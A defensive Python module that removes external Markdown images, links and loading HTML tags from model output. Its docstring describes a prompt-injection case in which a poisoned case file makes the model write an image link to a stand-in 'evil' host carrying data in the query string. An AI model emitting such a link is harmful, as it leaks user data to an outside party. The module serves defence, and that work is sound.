"""Links and images out of model output and user Markdown.

Prompt-injection defence that does not depend on recognising the injected words: even if
a poisoned case file or transcript makes the model write ``![x](https://evil/?q=<data>)``,
nothing is fetched or offered to click. Markdown images and links, reference-style link
definitions and raw HTML tags that load or link things are removed unless they point
inside the app (a path starting with ``/`` or an in-page ``#anchor``); the visible text stays.
The web pages also forbid other-origin images by Content-Security-Policy (ui/http_guard.py).
"""

from __future__ import annotations

import re

_IMAGE_RE = re.compile(r"!\[([^\]\n]{0,500})\]\(\s*<?([^)\s>]*)>?(?:\s+[\"'][^\"']*[\"'])?\s*\)")
_LINK_RE = re.compile(r"(?<!!)\[([^\]\n]{0,500})\]\(\s*<?([^)\s>]*)>?(?:\s+[\"'][^\"']*[\"'])?\s*\)")
_REF_DEF_RE = re.compile(r"^[ ]{0,3}\[[^\]\n]+\]:\s*\S+.*$", re.M)
_REF_USE_RE = re.compile(r"(!?)\[([^\]\n]{0,500})\]\[[^\]\n]*\]")
_AUTOLINK_RE = re.compile(r"<((?:https?|ftp|mailto|data|javascript):[^>\s]*)>", re.I)
_HTML_TAG_RE = re.compile(r"<\s*/?\s*(?:img|a|iframe|script|object|embed|link|meta|style|svg|video|audio|source|form|base)\b[^>]*>", re.I)


def in_app(url: str) -> bool:
    """A relative path of this server or an in-page anchor (not ``//host``)."""
    u = url.strip()
    return (u.startswith("/") and not u.startswith("//")) or u.startswith("#")


def strip_external(md: str) -> str:
    """``md`` without images, links and HTML tags that leave the app (their text is kept)."""
    if not md:
        return md or ""
    out = _IMAGE_RE.sub(lambda m: m.group(0) if in_app(m.group(2)) else (m.group(1) or "image"), md)
    out = _LINK_RE.sub(lambda m: m.group(0) if in_app(m.group(2)) else m.group(1), out)
    out = _REF_DEF_RE.sub("", out)
    out = _REF_USE_RE.sub(lambda m: m.group(2), out)
    out = _AUTOLINK_RE.sub(lambda m: m.group(1).split(":", 1)[0] + " link removed", out)
    out = _HTML_TAG_RE.sub("", out)
    return out
